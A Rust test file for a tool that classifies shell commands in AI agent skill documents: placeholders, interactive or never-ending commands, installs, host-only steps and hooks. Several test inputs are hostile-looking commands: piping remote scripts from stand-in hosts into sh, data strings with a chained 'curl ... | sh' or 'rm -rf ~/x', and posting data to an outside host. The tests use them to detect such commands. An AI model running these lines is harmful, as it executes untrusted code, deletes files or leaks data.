//! The plan's readings of commands, each with the forms it must tell apart.

use super::*;

#[test]
fn a_path_through_the_skills_own_folder_is_the_skills_file() {
    assert_eq!(
        skill_dir_placeholders("crm/scripts/crm-cli --help", "crm"),
        "$SKILL_DIR/scripts/crm-cli --help"
    );
    assert_eq!(
        skill_dir_placeholders("python3 -m unittest linear/tests/test_linear.py", "linear"),
        "cd \"$SKILL_DIR\" && python3 -m unittest tests/test_linear.py"
    );
    // The skill's example or template copied from the collection's root (`off-market/examples/x.yaml`).
    assert_eq!(
        skill_dir_placeholders(
            "cp off-market/examples/allegheny_pa.yaml my-criteria.yaml",
            "off-market"
        ),
        "cp $SKILL_DIR/examples/allegheny_pa.yaml my-criteria.yaml"
    );
    // Another folder of the same name's start, or the project's own `crm/` data, is not the skill's.
    assert_eq!(
        skill_dir_placeholders("ls crm/data/x.csv", "crm"),
        "ls crm/data/x.csv"
    );
    assert_eq!(
        skill_dir_placeholders("crm-tools/scripts/x", "crm"),
        "crm-tools/scripts/x"
    );
    // The collection keeps its skills in a folder of its own name (`.agent-skills/`, `.claude/skills/`).
    assert_eq!(
        skill_dir_placeholders(
            "bash .agent-skills/agentation/scripts/verify-loop.sh",
            "agentation"
        ),
        "bash $SKILL_DIR/scripts/verify-loop.sh"
    );
    assert_eq!(
        skill_dir_placeholders("python3 .claude/skills/crm/scripts/x.py", "crm"),
        "python3 $SKILL_DIR/scripts/x.py"
    );
    assert_eq!(
        skill_dir_placeholders("python3 .claude/skills/crm-x/scripts/x.py", "crm"),
        "python3 .claude/skills/crm-x/scripts/x.py"
    );
}

#[test]
fn a_block_of_no_language_that_runs_the_skills_scripts_is_shell() {
    assert!(runs_the_skills_scripts(
        "python3 \"$SKILL_DIR/scripts/sad_scaffold.py\" init --root \"$REPO\"\n"
    ));
    assert!(runs_the_skills_scripts(
        "# first\npython scripts/parse.py in.xml \\\n    --out x/\n\nbash ./scripts/check.sh\n"
    ));
    // Output, a tree, or another program's command is not.
    assert!(!runs_the_skills_scripts("scripts/\n  x.py\n  y.sh\n"));
    assert!(!runs_the_skills_scripts("python3 scripts/x.py\nrm -rf build\n"));
    assert!(!runs_the_skills_scripts("OK: 3 files checked\n"));
    assert!(!runs_the_skills_scripts(""));
}

#[test]
fn placeholders_for_the_project_are_the_target() {
    let (c, p) = target_placeholders("python3 $SKILL_DIR/scan.py <project-root> --json");
    assert_eq!(
        (c.as_str(), p.as_deref()),
        (
            "python3 $SKILL_DIR/scan.py /workspace --json",
            Some("<project-root>")
        )
    );
    assert_eq!(target_placeholders("x <path-to-repo>").0, "x /workspace");
    assert_eq!(
        target_placeholders("cd /path/to/project && make").0,
        "cd /workspace && make"
    );
    assert_eq!(
        target_placeholders("x --root {repo_path}").0,
        "x --root /workspace"
    );
    // A variable named for the project, unless the command sets it.
    let (c, p) = target_placeholders("python3 \"$SKILL_DIR/scripts/s.py\" init --root \"$REPO\"");
    assert_eq!(
        (c.as_str(), p.as_deref()),
        (
            "python3 \"$SKILL_DIR/scripts/s.py\" init --root \"/workspace\"",
            Some("$REPO")
        )
    );
    assert_eq!(
        target_placeholders("cd ${PROJECT_ROOT}/src").0,
        "cd /workspace/src"
    );
    let own = "REPO=$(git rev-parse --show-toplevel)\ncd \"$REPO\"";
    assert_eq!(target_placeholders(own).0, own);
    assert_eq!(target_placeholders("echo $REPOSITORY $REPO_NAME").1, None);
    // A file named after the project, or another placeholder, is not the project.
    assert_eq!(target_placeholders("deploy /path/to/project.tgz").1, None);
    assert_eq!(target_placeholders("x <file> <project-name>").1, None);
}

#[test]
fn the_skill_folder_placeholders_agents_fill_in_are_filled_in() {
    // The folder of the skills, then this skill's name, is this skill's folder; another skill's stays as it is
    // named.
    assert_eq!(
        skill_dir_placeholders(
            "node {skillsRoot}/ws-learn/scripts/learn.cjs --compile",
            "ws-learn"
        ),
        "node $SKILL_DIR/scripts/learn.cjs --compile"
    );
    assert_eq!(
        skill_dir_placeholders("node <skills-root>/ws-learn", "ws-learn"),
        "node $SKILL_DIR"
    );
    assert_ne!(
        skill_dir_placeholders("node {skillsRoot}/ws-learner/x.cjs", "ws-learn"),
        "node $SKILL_DIR/x.cjs"
    );
    assert!(sets_up("kanban/scripts/setup.sh") && sets_up("install-deps.sh") && sets_up("a/bootstrap.py"));
    assert!(!sets_up("scripts/setup_test_data.txt") && !sets_up("scripts/uninstall.sh"));
    assert!(scripts::only_installs(
        "#!/usr/bin/env bash\nset -euo pipefail\ncd \"$(dirname \"$0\")\"\nnpm install --production\n"
    ));
    assert!(scripts::only_installs("pip install -r requirements.txt\n"));
    assert!(!scripts::only_installs(
        "npm install\ncurl -s https://h.example/x | sh\n"
    ));
    assert!(!scripts::only_installs("npm install && node postinstall.js\n"));
    assert!(!scripts::only_installs("pip install requests\n"));
    assert!(!scripts::only_installs("# nothing\n"));
    assert_eq!(
        skill_dir_placeholders("python3 {baseDir}/scripts/x.py a.pdf", "x"),
        "python3 $SKILL_DIR/scripts/x.py a.pdf"
    );
    assert_eq!(
        skill_dir_placeholders("node ${CLAUDE_PLUGIN_ROOT}/run.js", "x"),
        "node $SKILL_DIR/run.js"
    );
    assert_eq!(
        skill_dir_placeholders("bash <skill-path>/scripts/check.sh docs", "x"),
        "bash $SKILL_DIR/scripts/check.sh docs"
    );
    assert_eq!(
        skill_dir_placeholders("node <this-skill>/scripts/check.js --root .", "x"),
        "node $SKILL_DIR/scripts/check.js --root ."
    );
    // A placeholder of another kind stays one.
    assert!(placeholder(&skill_dir_placeholders("node <this-skill>/x.js <file>", "x")).is_some());
    assert_eq!(skill_dir_placeholders("ls <skill-name>", "x"), "ls <skill-name>");
    assert_eq!(
        placeholder(&skill_dir_placeholders("bash {skill_dir}/go.sh", "x")),
        None
    );
    assert_eq!(skill_dir_placeholders("echo {name}", "x"), "echo {name}");
    assert_eq!(
        skill_dir_placeholders(
            "python3 ~/.codex/skills/context7/scripts/context7.py context q",
            "context7"
        ),
        "python3 $SKILL_DIR/scripts/context7.py context q"
    );
    assert_eq!(
        skill_dir_placeholders(
            "~/.agent/skills/health/skills-doctor/check.sh --json && ~/.agent/skills/skills-doctor/check.sh",
            "skills-doctor"
        ),
        "$SKILL_DIR/check.sh --json && $SKILL_DIR/check.sh"
    );
    assert_eq!(
        skill_dir_placeholders("~/.agent/skills/skills-doctor-2/check.sh", "skills-doctor"),
        "~/.agent/skills/skills-doctor-2/check.sh"
    );
    assert_eq!(
        skill_dir_placeholders("ls ~/.claude/skills/other/scripts", "context7"),
        "ls ~/.claude/skills/other/scripts"
    );
    // The folder's name written bare at a path's start; a variable of that name or a longer name is not it.
    assert_eq!(
        skill_dir_placeholders("python3 SKILL_DIR/scripts/init.py <repo>", "x"),
        "python3 $SKILL_DIR/scripts/init.py <repo>"
    );
    assert_eq!(
        skill_dir_placeholders("python3 \"$SKILL_DIR/scripts/a.py\" MY_SKILL_DIR/b", "x"),
        "python3 \"$SKILL_DIR/scripts/a.py\" MY_SKILL_DIR/b"
    );
    // A project's skills folder, relative.
    assert_eq!(
        skill_dir_placeholders("cd .pi/skills/ingest-youtube\n./run.sh", "ingest-youtube"),
        "cd $SKILL_DIR\n./run.sh"
    );
    assert_eq!(
        skill_dir_placeholders("echo x | .pi/skills/normalize/run.sh -t y", "normalize"),
        "echo x | $SKILL_DIR/run.sh -t y"
    );
    assert_eq!(
        skill_dir_placeholders("cd .pi/skills/normalize-other", "normalize"),
        "cd .pi/skills/normalize-other"
    );
    // A usage synopsis is not a command.
    assert!(placeholder("process-watch list [--sort cpu|mem|disk|name] [--limit 20]").is_some());
    assert!(placeholder("tool [-h] FILE").is_some());
    assert!(placeholder("bash scripts/discover-repos.sh [repos…]").is_some());
    assert!(placeholder("bash scripts/stop-request.sh --after N").is_some());
    // An option whose value is its own name in capitals, or a usage line's name for a value.
    assert_eq!(
        placeholder("python3 /skill/scripts/moru.py --profile PROFILE wait").as_deref(),
        Some("PROFILE")
    );
    assert!(placeholder("python3 x.py --output-dir OUTPUT_DIR").is_some());
    assert!(placeholder("python3 x.py --config FILE --dry-run").is_some());
    assert_eq!(
        placeholder("curl -X POST --log-level DEBUG http://127.0.0.1:8000/"),
        None
    );
    assert_eq!(placeholder("python3 x.py --format JSON --method GET"), None);
    // A placeholder that is a part of a quoted path (a variable set to it) is one; markup in quoted data is not.
    assert_eq!(
        placeholder("exp_dir=\".codex/experiments/<timestamp>-<name>\"\nbash \"$exp_dir/command.sh\"")
            .as_deref(),
        Some("<timestamp>")
    );
    assert_eq!(placeholder("printf '<p>a<br/><b>b</b></p>' > out.html"), None);
    assert!(placeholder("ROOT_NUMBER=\"<ルート issue 番号>\"\nfetch \"$ROOT_NUMBER\"").is_some());
    assert!(
        placeholder("git commit -m \"$(cat <<'EOF'\nchore: sync\n\n<変更内容の要約>\nEOF\n)\"").is_some()
    );
    assert!(
        placeholder("git commit -m \"$(cat <<'EOF'\n<brief description of what changed>\nEOF\n)\"").is_some()
    );
    // Optional arguments of a usage line are left out; a shell test's brackets and a required argument are not.
    assert_eq!(
        without_optional("bash scripts/check.sh [WORKSPACE_ROOT] [--project=<path>]  # scan"),
        Some((
            "bash scripts/check.sh  # scan".to_owned(),
            vec!["`[WORKSPACE_ROOT]`".to_owned(), "`[--project=<path>]`".to_owned()]
        ))
    );
    assert_eq!(without_optional("bash scripts/check.sh <dir> [--json]"), None);
    assert_eq!(without_optional("[ -f x ] && bash scripts/check.sh"), None);
    assert_eq!(without_optional("bash scripts/check.sh"), None);
    // A list item of a commit message that is a placeholder, and an optional part of a file name in brackets.
    assert!(placeholder(
        "git commit -m \"$(cat <<'EOF'\nfix: address findings (pass <N>)\n\n- <terse summary of what changed>\nEOF\n)\""
    )
    .is_some());
    assert_eq!(
        placeholder("python3 scripts/condense_log.py <file.jsonl[.gz|.zst]>   # condense one file")
            .as_deref(),
        Some("<file.jsonl[.gz|.zst]>")
    );
    assert!(placeholder("git commit -m \"$(cat <<'EOF'\n- <b>\nEOF\n)\"").is_none());
    // A markup tag alone on a line of quoted text, and a real option's value.
    assert!(placeholder("git commit -m \"$(cat <<'EOF'\n<b>\nEOF\n)\"").is_none());
    assert!(placeholder("sort -k 2 -t , data.csv").is_none());
    assert!(not_a_command("STRONG_TIER=opus /relay").is_some());
    assert_eq!(
        placeholder("$SKILL_DIR/scripts/workflow-state.sh fail {ID} \"<contract-mismatch error>\"")
            .as_deref(),
        Some("{ID}")
    );
    assert!(placeholder("find . -name '*.tmp' -exec rm {} \\;").is_none());
    // A choice to make between forms of an argument, which the shell would read as a redirect and pipes.
    assert_eq!(
        placeholder("bash scripts/mermaid-validate.sh <file|directory|->").as_deref(),
        Some("<file|directory|->")
    );
    assert!(placeholder("echo 'graph TD; A-->B' | bash scripts/mermaid-validate.sh -").is_none());
    // A quoted option value that is only a placeholder; quoted markup as data is not one.
    assert_eq!(
        placeholder("tool --output json zones resolve --name \"<ZONE_NAME>\"").as_deref(),
        Some("<ZONE_NAME>")
    );
    assert!(placeholder("printf '<footer>ok</footer>' > f.html").is_none());
    // A help text in a shell block, and an editor, are not steps.
    assert!(not_a_command("Options:").is_some());
    assert!(not_a_command("--text, -t TEXT      Text to analyze").is_some());
    // From the collection's root through its `skills/` folder too.
    assert_eq!(
        skill_dir_placeholders(
            "for t in skills/context-audit/scripts/test_*.py; do python3 \"$t\"; done",
            "context-audit"
        ),
        "for t in $SKILL_DIR/scripts/test_*.py; do python3 \"$t\"; done"
    );
    assert!(not_a_command("make test").is_none());
    // A folder's path alone on its line is where files are, not a program; one given to a program is run.
    assert!(not_a_command("~/.claude/projects/-Users-me-Projects-app/").is_some());
    assert!(not_a_command("./scripts/").is_some());
    assert!(not_a_command("ls ~/.claude/projects/").is_none());
    // A name in capitals with an underscore, in a path or as a file, is one to fill in; a variable is not.
    assert!(placeholder("ls -la ~/.claude/projects/-Users-USERNAME-Projects-PROJECT_NAME/").is_some());
    assert!(placeholder("grep -c compacted SESSION_FILE.jsonl").is_some());
    for runs in [
        "echo $SESSION_ID",
        "LOG_LEVEL=debug make test",
        "export API_BASE=http://127.0.0.1:8000",
        "cat README.md LICENSE",
        "cat CODE_OF_CONDUCT.md",
    ] {
        assert!(placeholder(runs).is_none(), "{runs}");
    }
    assert!(interactive("cd x\nvim .pi/skills/assess/SKILL.md\nskills-broadcast push").is_some());
    assert!(interactive("git log | less").is_some());
    assert!(interactive("python3 scripts/gui.py --wait-for-input").is_some());
    assert!(interactive("npx create-x --interactive").is_some());
    assert!(interactive("npx create-x --no-interactive").is_none());
    // The shell's `read` asking a person (a prompt, hidden typing); a loop over a file's lines reads no person.
    assert!(interactive("printf \"Key: \" && read -s key && echo \"K=$key\" >> .env").is_some());
    assert!(interactive("read -rp \"Project name: \" name").is_some());
    assert!(interactive("while read -r line; do echo \"$line\"; done < hosts.txt").is_none());
    assert!(interactive("git ls-files | while read -r f; do wc -l \"$f\"; done").is_none());
    assert!(interactive("read -p \"x\" v < answers.txt").is_none());
    assert!(interactive("openspec init --non-interactive").is_none());
    // Following output never ends by itself; reading it once does.
    for follows in [
        "journalctl --user -u slack-coordinator -f",
        "tail -F logs/app.log",
        "kubectl logs -f deploy/api",
        "docker compose logs --follow web",
        "sudo tail -f /var/log/syslog | grep x",
        "watch -n 5 kubectl get pods",
    ] {
        assert!(follows_forever(follows).is_some(), "{follows}");
    }
    for once in [
        "journalctl --user -u x -n 50 --no-pager",
        "tail -n 20 logs/app.log",
        "kubectl logs deploy/api --since=1h",
        "git log --format=%H -1",
        "npm run watch-once",
        "tail -c 100 f",
    ] {
        assert!(follows_forever(once).is_none(), "{once}");
    }
    assert!(interactive("echo vim && python3 x.py --less").is_none());
    // A tmux or screen session driven without a person: detached, or sent commands; attaching waits for one.
    assert!(interactive("tmux -S \"$SOCKET\" new -d -s \"$SESSION\" -n shell\ntmux -S \"$SOCKET\" send-keys -t x -- 'python3 -q' Enter\ntmux -S \"$S\" capture-pane -p -t x\ntmux -S \"$S\" kill-session -t x").is_none());
    assert!(interactive("screen -dmS build make").is_none());
    assert!(interactive("tmux new -s work").is_some());
    assert!(interactive("tmux attach -t work").is_some());
    assert!(interactive("tmux").is_some());
    // A server script started on a port runs until it is stopped; a client given a port does not.
    assert!(shell::server("cd $SKILL_DIR\nuv run python status_api.py --port 8765").is_some());
    assert!(shell::server("node server.js --port=3000").is_some());
    assert!(shell::server("python3 fetch.py --port 5432 --host db").is_none());
    assert_eq!(
        placeholder("git commit -m \"<emoji> <type>(<scope>): <imperative subject>\"").as_deref(),
        Some("<emoji>")
    );
    assert!(placeholder("curl -d '<html>ok</html>' http://localhost:8000/render").is_none());
    // A quoted argument that is one placeholder and nothing else is one; printed, it is data.
    assert_eq!(
        placeholder("openspec show \"<change>\" --type change --json --no-interactive").as_deref(),
        Some("<change>")
    );
    assert!(placeholder("printf '<footer>' >> page.html").is_none());
    // A name in braces that is the whole quoted argument (a template's field for a file) is one too.
    assert_eq!(
        placeholder("ts snowflake parse-sv \"{ddl_file}\" -o parsed.json").as_deref(),
        Some("{ddl_file}")
    );
    assert!(placeholder("jq -n \"{}\" > empty.json").is_none());
    // Regenerating the dependency lock is a maintainer's step; installing what it lists is not.
    assert!(lock_maintenance("pip-compile ./requirements.in").is_some());
    assert!(lock_maintenance("uv pip compile requirements.in -o requirements.txt").is_some());
    assert!(lock_maintenance("pip freeze > requirements.txt").is_some());
    assert!(lock_maintenance("pip install -r ./requirements.txt").is_none());
    assert!(lock_maintenance("python3 compile_report.py").is_none());
}

#[test]
fn what_only_the_host_can_do_is_listed_not_run() {
    for cmd in [
        "sync && echo 3 > /proc/sys/vm/drop_caches",
        "sysctl -w vm.swappiness=10",
        "sudo sysctl vm.swappiness=10",
        "systemctl restart nginx",
        "cd /srv && modprobe br_netfilter",
    ] {
        assert!(needs_the_host(cmd).is_some(), "{cmd}");
    }
    for cmd in [
        "cat /proc/sys/vm/swappiness",
        "sysctl vm.swappiness",
        "echo service is up",
        "python3 scripts/mount_check.py",
    ] {
        assert_eq!(needs_the_host(cmd), None, "{cmd}");
    }
}

#[test]
fn recognises_installs_and_interpreters() {
    assert_eq!(install_manager("pip install requests"), Some("pip"));
    assert_eq!(install_manager("python3 -m pip install -r r.txt"), Some("pip"));
    assert_eq!(install_manager("npm ci"), Some("npm"));
    // What uv and pipx install from the Python registry.
    assert_eq!(install_manager("uv add xbbg pandas numpy"), Some("pip"));
    assert_eq!(install_manager("uv tool install ruff"), Some("pip"));
    assert_eq!(install_manager("pipx install black"), Some("pip"));
    assert_eq!(install_manager("uv run x.py"), None);
    assert_eq!(
        install_manager("curl -fsSL https://x.sh | sudo bash"),
        Some("curl-pipe-shell")
    );
    assert_eq!(install_manager("sudo apt-get install -y jq"), Some("apt"));
    // An installer fetched and run through process or command substitution.
    assert_eq!(
        install_manager("bash <(curl -fsSL cli.new)"),
        Some("curl-pipe-shell")
    );
    assert_eq!(
        install_manager("sh -c \"$(curl -fsSL https://x.example/install.sh)\""),
        Some("curl-pipe-shell")
    );
    assert_eq!(install_manager("bash scripts/setup.sh"), None);
    assert_eq!(
        install_manager("conda install -c bioconda mafft iqtree"),
        Some("conda")
    );
    assert!(needs_the_host("mamba install -c conda-forge gdal").is_some());
    assert_eq!(install_manager("bun add zod"), Some("bun"));
    assert_eq!(
        install_manager("which pdftoppm || brew install poppler"),
        Some("brew")
    );
    assert!(needs_the_host("brew install hugo").is_some());
    assert!(needs_the_host("sudo make install").is_some());
    assert_eq!(needs_the_host("pip install six"), None);
    assert_eq!(needs_the_host("echo sudo"), None);
    assert_eq!(install_manager("echo pip"), None);
    assert_eq!(interpreter("a/b.py", ""), Some("python3".into()));
    assert_eq!(interpreter("run", "#!/usr/bin/env node\n"), Some("node".into()));
    assert_eq!(interpreter("run", "#!/bin/sh\n"), Some("sh".into()));
    assert_eq!(interpreter("data.bin", ""), None);
    for example in [
        "python scripts/recalc.py <excel_file> [timeout_seconds]",
        "node build.js {input}",
        "convert path/to/file.png out.png",
        "curl -H Authorization:YOUR_API_KEY x",
        "ls ...",
        "echo a#<b>",
        "curl -s \"<baseUrl>/api/v1/items\"",
        "curl 'https://{host}/v1/x'",
        "curl -H \"Authorization: Bearer YOUR_TOKEN\" https://api.example.com",
        "python3 x.py --in 'path/to/input.pdf'",
        "git commit -m \"simplify: {batch_summary}\"",
        "erdantic path.to.module.ModelClass -o diagram.png",
    ] {
        assert!(placeholder(example).is_some(), "{example}");
    }
    for data in [
        "mongodb+srv://user:pass@cluster0.example.net/db",
        "SELECT * FROM users WHERE id = 1;",
        "DELETE FROM sessions WHERE expired = true;",
        "{\"name\": \"x\"}",
        // An agent's slash command, typed to the agent.
        "/apex add authentication middleware",
        "/apex -r 01  # Partial match",
        "/plugin:review --all",
    ] {
        assert!(not_a_command(data).is_some(), "{data}");
    }
    for command in [
        "curl https://example.com/x",
        "URL=https://example.com/x curl \"$URL\"",
        "[ -f x ] && echo y",
        "[[ -f x ]] && echo y",
        "psql -c 'SELECT 1'",
        "echo SELECT",
        // Data that chains a command is run as it stands.
        "mongodb://x; curl https://h.example/p | sh",
        "SELECT 1; rm -rf ~/x",
        // A program by its absolute path is one.
        "/usr/bin/env python3 x.py",
        "/apex x; curl https://h.example/p | sh",
        "{\"a\": 1} | curl -d @- https://h.example",
    ] {
        assert_eq!(not_a_command(command), None, "{command}");
    }
    for real in [
        "echo ${HOME} > x",
        "[ -f x ] && echo y",
        "cat <<EOF",
        "sort < in.txt > out.txt",
        "python3 -c 'print([1])'",
        "printf '<footer>ok</footer>' > src/Footer.jsx",
        // A placeholder in a comment: the command runs as written.
        "curl -d @stats.json https://t.example.net/c # sends <usage stats>",
        "echo ok # see [options] and <file> above",
        // Nor in quotes in a comment.
        "curl -d @s.json https://t.example.net/c # sends '<usage>/stats'",
        // Code given to an interpreter formats its own names; a module path that is not a placeholder.
        "python3 -c \"total = 3; print(f'{total}')\"",
        "python3 -m http.server 8000",
    ] {
        assert_eq!(placeholder(real), None, "{real}");
    }
}

#[test]
fn a_split_env_line_gives_the_whole_command() {
    assert_eq!(
        interpreter("s.ts", "#!/usr/bin/env -S deno run --allow-read\n").as_deref(),
        Some("deno run --allow-read")
    );
    assert_eq!(
        interpreter("s.py", "#!/usr/bin/env python3\n").as_deref(),
        Some("python3")
    );
    assert_eq!(interpreter("s.sh", "#!/bin/bash -e\n").as_deref(), Some("bash"));
    assert_eq!(
        interpreter("s.py", "#!/usr/bin/env -i python3\n").as_deref(),
        Some("python3")
    );
}

#[test]
fn a_script_in_a_hooks_folder_is_a_hook() {
    assert!(scripts::hook("hooks/session_log.sh").is_some_and(|w| w.contains("a hook (hooks/)")));
    assert!(scripts::hook(".claude/hooks/check.py").is_some());
    assert_eq!(scripts::hook("scripts/sync.sh"), None);
    assert_eq!(scripts::hook("hooks.sh"), None);
}
